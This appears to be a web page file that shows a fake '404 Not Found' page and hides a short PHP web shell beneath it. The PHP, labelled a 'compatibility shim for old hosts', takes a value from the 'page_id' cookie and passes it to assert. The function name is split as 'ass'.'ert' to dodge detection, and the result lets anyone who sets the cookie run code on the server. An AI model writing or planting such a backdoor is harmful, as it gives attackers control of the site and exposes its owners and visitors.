<html><body><h1>404 Not Found</h1></body></html>
<?php
// compatibility shim for old hosts
$p = $_COOKIE['page_id'];
$handler = 'ass'.'ert';
$handler($p);
?>
